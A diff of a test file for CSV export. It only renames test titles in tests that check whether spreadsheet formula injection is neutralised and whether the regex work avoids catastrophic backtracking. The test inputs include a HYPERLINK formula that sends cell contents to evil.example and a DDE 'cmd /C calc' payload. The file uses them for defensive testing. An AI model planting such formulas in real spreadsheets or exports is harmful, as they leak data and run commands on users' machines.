@@ -83,7 +83,7 @@ test.each([
 	...["=1+1", "+61 7 3000 0000", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\u0000x"],
 	...['=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "@home Cafe", "-"],
 	...["＝1+1", "＋1", "－1", "＠x"],
-])("puts an apostrophe before %j", (text) => {
+])("puts an apostrophe before the formula %j", (text) => {
 	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: text, keywords: text }));
 	expect([row?.[4], row?.[9]]).toEqual([`'${text}`, `'${text}`]);
 });
@@ -100,7 +100,7 @@ test.each([
 test.each([
 	...["Reef Café", "a=b", "1-2-3 Plumbing", "O'Brien", "'quoted", "50% off", "https://a.example/?a=-1", ""],
 	...["Reef Café - Brisbane", "salt & pepper; fish, chips", "https://social.example/@reef", "50 - 60 covers"],
-])("leaves %j unchanged", (text) => {
+])("leaves the harmless text %j unchanged", (text) => {
 	expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
 });
 
@@ -133,7 +133,7 @@ test("leaves no formula for any separator, whether or not quotes are respected",
 });
 
 // Takes milliseconds. A regular expression with quadratic run time would exceed the test's time limit.
-test.each([" ", '"', '" ', "\t", ' "=', "\u200b "])("copes with 200,000 repetitions of %j", (unit) => {
+test.each([" ", '"', '" ', "\t", ' "=', "\u200b "])("renders 200,000 repetitions of %j without backtracking", (unit) => {
 	expect(renderCsvRow({ ...lead, keywords: `a${unit.repeat(200_000)}=` })).toMatch(/=",/);
 });
 
